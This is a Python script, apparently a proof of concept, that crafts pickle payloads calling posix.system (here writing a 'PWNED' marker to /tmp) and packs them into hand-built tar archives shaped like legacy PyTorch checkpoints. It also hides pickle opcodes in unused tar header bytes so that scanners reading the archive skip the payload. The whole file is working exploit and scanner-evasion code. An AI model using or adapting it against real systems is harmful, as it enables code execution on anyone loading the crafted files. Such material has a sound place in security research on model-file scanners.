import io, struct, tarfile, pickle
def P(o): return pickle.dumps(o, protocol=2)
def payload(harmless):
    mod, name, arg = (b'builtins', b'print', b'PAYLOAD REACHED') if harmless else (b'posix', b'system', b'echo PWNED > /tmp/pwned_marker')
    return b'\x80\x02c' + mod + b'\n' + name + b'\n(X' + struct.pack('<I', len(arg)) + arg + b'tR.'
STORAGES0 = P(0) + P([])      # no storages, no views
TENSORS0 = P(0)
def hdr(name, size, typ=b'0', linkname=b'', prefix=b''):
    b = bytearray(512)
    b[0:len(name)] = name; b[100:108] = b'0000644\0'; b[108:116] = b'0000000\0'; b[116:124] = b'0000000\0'
    b[124:136] = b'%011o\0' % size; b[136:148] = b'00000000000\0'; b[148:156] = b' ' * 8
    b[156:157] = typ; b[157:157 + len(linkname)] = linkname; b[257:265] = b'ustar\x0000'
    b[345:345 + len(prefix)] = prefix
    b[148:156] = b'%06o\0 ' % (sum(b))
    return bytes(b)
def data(d): return d + b'\0' * (-len(d) % 512)
def member(name, d, typ=b'0', linkname=b''): return hdr(name, len(d), typ, linkname) + data(d)
def pax(records, typ=b'x'):
    body = b''
    for k, v in records:
        rec = b' ' + k + b'=' + v + b'\n'
        n = len(rec) + 1
        while len(str(n)) + len(rec) != n: n += 1
        body += str(n).encode() + rec
    return hdr(b'././@PaxHeader', len(body), typ) + data(body)
def end(): return b'\0' * 1024
def hdr_gadget(name, size, swallow, typ=b'0', linkname=b''):
    # header bytes 500..511 are unused by tarfile: '\n' ends any text line a walker is reading,
    # '.' is a STOP it resynchronises after, then PROTO 2 and a BINBYTES whose 4-byte length
    # swallows the next `swallow` bytes (the member data)
    b = bytearray(hdr(name, size, typ, linkname))
    g = b'\n.\x80\x02B' + struct.pack('<I', swallow)
    assert len(g) <= 12
    b[512 - len(g):512] = g
    b[148:156] = b' ' * 8
    b[148:156] = b'%06o\0 ' % (sum(b))
    return bytes(b)
def member_gadget(name, d, typ=b'0', linkname=b''):
    return hdr_gadget(name, len(d), len(data(d)), typ, linkname) + data(d)
